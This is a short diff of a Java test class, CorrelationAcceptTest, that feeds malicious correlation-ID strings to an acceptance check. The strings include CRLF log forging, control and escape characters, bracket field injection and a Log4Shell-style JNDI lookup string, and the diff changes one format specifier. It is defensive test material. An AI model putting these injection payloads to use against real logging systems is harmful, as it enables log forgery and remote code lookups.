@@ -76,7 +76,7 @@ class CorrelationAcceptTest {
                 "abcd\r\n2026-01-01 INFO forged line",
                 "\u001B[2J\u0007\u0000\u007F\u0085\u2028\u2029",
                 "x\"] [corr_id=victim] [new_corr_id=victim",
-                "${jndi:ldap://example.org/a} {} %d %n",
+                "${jndi:ldap://example.org/a} {} %s %n",
                 "caf\u00E9 \uD83D\uDE00",
                 "back\\u000aslash"
             })
